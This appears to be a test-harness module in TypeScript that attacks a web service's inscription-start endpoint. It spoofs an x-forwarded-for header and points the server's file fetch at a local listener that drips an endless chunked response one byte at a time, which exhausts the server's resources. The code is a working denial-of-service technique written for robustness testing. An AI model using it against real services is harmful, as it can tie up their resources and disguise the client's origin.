import { createApiKey } from "../operator.ts";
import { attacker, hold } from "../raw.ts";
import type { Attack } from "../trial.ts";

const head = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n";
const perWrite = 5000;
const drip = new TextEncoder().encode("1\r\nA\r\n".repeat(perWrite));

/** A file from a URL that comes in chunks of one byte, without end. */
export const attack: Attack = async (target, signal) => {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let chunks = 0;
  const serving = (async () => {
    for await (const connection of listener) {
      await connection.read(new Uint8Array(4096));
      await connection.write(new TextEncoder().encode(head));
      const write = async () => {
        for (;;) {
          for (let sent = 0; sent < drip.length;) sent += await connection.write(drip.subarray(sent));
          chunks += perWrite;
        }
      };
      await write().catch(() => connection.close());
    }
  })();
  const key = await createApiKey(target.url);
  const asking = new AbortController();
  const starting = fetch(`${target.url}/inscriptions/start-inscription`, {
    method: "POST",
    headers: { "x-api-key": key, "x-forwarded-for": attacker },
    body: JSON.stringify({
      fileURL: `http://127.0.0.1:${listener.addr.port}/file.txt`,
      holderId: "0.0.1",
      mode: "file",
      network: "testnet",
    }),
    signal: asking.signal,
  }).then(({ status, body }) => body?.cancel().then(() => status), () => 0);
  const status = await Promise.race([starting, hold(15_000, signal)]);
  asking.abort();
  listener.close();
  await serving.catch(() => {});
  return { said: `${chunks} chunks of a byte, then ${status ?? "given up"}`, faults: [] };
};
